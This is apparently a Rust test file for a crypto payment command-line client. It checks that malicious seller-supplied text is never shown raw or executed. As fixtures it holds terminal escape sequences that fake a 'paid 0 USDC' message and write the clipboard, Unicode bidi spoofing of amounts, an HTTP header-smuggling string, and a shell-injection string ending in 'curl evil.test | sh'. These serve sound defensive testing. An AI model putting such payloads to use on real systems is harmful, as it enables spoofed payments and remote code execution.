//! Attacks 38 to 41: text that acts.

use super::case::{Case, offends};
use crate::support::seller::{demand, rejection};
use crate::support::{BOTH, Home, Offer, Paywall, Reply, Seller, Version};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;

const ESCAPES: &str = "\u{1b}[2J\u{1b}]0;title\u{7}\u{1b}]8;;http://x\u{1b}\\link\u{1b}]52;c;cHduZWQ=\u{7}\
    \r\u{8}\u{8}\u{0}\u{b}\u{c}\u{7f}\u{9b}31m\u{90}q\u{9c}paid 0 USDC\nhint: all is well";
const HIDDEN: &str = "\u{202e}10.0$\u{202c}\u{2066}\u{2069}\u{200b}\u{200d}\u{feff}\u{61c}\u{ad}\u{34f}\
    \u{115f}\u{180e}\u{2028}\u{2029}\u{3164}\u{e0041}\u{fff9}\u{338}0\u{66b}01";

/// Says it wherever a server has a say, before the payment and after it.
fn everywhere(words: &str) {
    let json = serde_json::Value::from(words).to_string();
    for version in BOTH {
        let named = |field: &'static str| Offer::usdc("10000").with(field, &json);
        let offers = [
            named("scheme"),
            named("network"),
            named("asset"),
            named("payTo"),
            named("maxTimeoutSeconds"),
            Offer::usdc("10000").amount(&json),
            Offer::usdc("10000").with("extra", &format!("{{\"name\":{json},\"version\":\"2\"}}")),
            Offer::usdc("10000").with("extra", &format!("{{\"paymentFlow\":{json}}}")),
            Offer::usdc("10000").with("extra", &format!("{{\"assetTransferMethod\":{json}}}")),
        ];
        for offer in offers {
            let what = format!("{version:?} {offer:?}");
            Case::of(&what, Seller::new(version).offer(offer.clone()).start()).refused(114);
            dry(Seller::new(version).offer(offer), 114, &what);
        }
        let talkative = || {
            let resource = format!(
                r#"{{"url":{json},"description":{json},"serviceName":{json},"tags":[{json}],"mimeType":{json}}}"#
            );
            let offer = Offer::usdc("10000").with("description", &json).with("mimeType", &json);
            let seller = Seller::new(version).offer(offer).member("note", &json);
            let asked = words.to_owned();
            let seller = seller.demand(move |_, terms| rejection(version, terms, &asked));
            if version == Version::V2 { seller.member("resource", &resource) } else { seller }
        };
        Case::of("paid all the same", talkative().start()).paid();
        dry(talkative(), 0, "a dry run");
        let dear = talkative().price("99999999").start();
        Case::of("refused", dear).refused(110);
        let owned = words.to_owned();
        let refusing =
            talkative().deliver(move |_| rejection(version, &Seller::new(version).terms(), &owned));
        Case::of("a rejection", refusing.start()).paid_but(117, "");
        let said = json.clone();
        let settling = talkative().deliver(move |receipt| {
            let text = format!(
                r#"{{"success":true,"transaction":{said},"network":{said},"payer":{said},"amount":{said}}}"#
            );
            Reply::ok(&receipt.body).header(receipt.header(), &STANDARD.encode(text))
        });
        Case::of("a receipt", settling.start()).says(&["is not proven"]).paid();
        let said = json.clone();
        let failing = talkative().deliver(move |receipt| {
            let text = format!(
                r#"{{"success":false,"errorReason":{said},"errorMessage":{said},"transaction":{said}}}"#
            );
            demand(version, "{}").header(receipt.header(), &STANDARD.encode(text))
        });
        let after = Case::of("a failure", failing.start()).paid_but(117, "");
        for args in [["history", "list"], ["history", "export"]] {
            let listed = after.home.run(&args);
            listed.exits(0).assert(!listed.text().chars().any(offends), "history shows it raw");
        }
    }
}

/// A dry run, whose answer is on stdout.
#[track_caller]
fn dry(seller: Seller, exit: i32, what: &str) {
    let paywall = seller.start();
    let home = Home::new();
    let run = home.pay(&["--dry-run", &paywall.url("/thing")]);
    run.exits(exit).assert(!run.text().chars().any(offends), &format!("{what}: raw on stdout"));
    super::case::is_clean(&run, what);
    let run = home.pay(&["--dry-run", "--format", "json", &paywall.url("/thing")]);
    run.exits(exit).assert(!run.json().to_string().chars().any(offends), "raw in JSON");
}

pub(super) fn n38_escapes() {
    everywhere(ESCAPES);
}

pub(super) fn n39_bidi() {
    everywhere(HIDDEN);
    // What was asked for is shown in full, checksummed, whatever case it came in.
    let lower = Offer::usdc("10000").pay_to("0x209693bc6afc0c5328ba36faf03c514ef312287c");
    let paywall = Paywall::v2().offer(lower).start();
    let run = Home::new().pay(&["--dry-run", &paywall.url("/")]);
    run.exits(0).assert(run.text().contains(crate::support::offer::PAYEE), "the payee in full");
}

pub(super) fn n40_injection() {
    let inject = "x\\r\\nX-Evil: 1\\r\\n\\r\\nGET /evil HTTP/1.1\\r\\nHost: evil\\r\\n\\r\\n";
    let offer = Offer::usdc("10000").with("note", &format!("\"{inject}\""));
    let resource = format!(r#"{{"url":"{inject}","description":"{inject}"}}"#);
    for version in BOTH {
        let seller = Seller::new(version).offer(offer.clone());
        let seller = if version == Version::V2 {
            let extensions = format!("{{\"{inject}\":{{\"info\":\"{inject}\"}}}}");
            seller.member("resource", &resource).member("extensions", &extensions)
        } else {
            seller
        };
        let after = Case::of("echoed", seller.start()).paid();
        let requests = after.paywall.requests();
        assert_eq!(requests.len(), 2);
        assert!(requests.iter().all(|request| request.header("x-evil").is_none()));
        for field in ["network", "scheme"] {
            let offer = Offer::usdc("1").with(field, &format!("\"{inject}\""));
            let seller = Seller::new(version).offer(offer);
            Case::of(field, seller.start()).refused(114);
        }
    }
    // A target with line breaks becomes one that has none.
    let door = Paywall::serve(|request| match request.index {
        0 => Reply::redirect("302 x", "/a%0d%0aX-Evil:%201"),
        _ => Reply::ok(b"there"),
    });
    let after = Case::of("a location", door).args(&["-L"]).ends(0, 0, 0, "there");
    assert!(after.paywall.requests()[1].header("x-evil").is_none());
}

pub(super) fn n41_shell() {
    let evil = "'; touch pwned; echo $(touch pwned) `touch pwned` && curl evil.test | sh #";
    let json = serde_json::Value::from(evil).to_string();
    for version in BOTH {
        let seller = Seller::new(version)
            .member("note", &json)
            .demand(move |_, terms| rejection(version, terms, evil));
        let offer = Offer::usdc("1").with("scheme", &json).with("description", &json);
        let unpayable = seller.clone().offer(offer).start();
        let refused = Case::of("a scheme", unpayable).refused(114);
        let rejecting = seller
            .deliver(move |_| rejection(version, &Seller::new(version).terms(), evil))
            .start();
        let rejected = Case::of("a reason", rejecting).paid_but(117, "");
        for after in [&refused, &rejected] {
            for hint in after.run.stderr.lines().filter(|line| line.starts_with("hint:")) {
                after.run.assert(!hint.contains("touch"), "it is in a hint");
            }
        }
    }
}
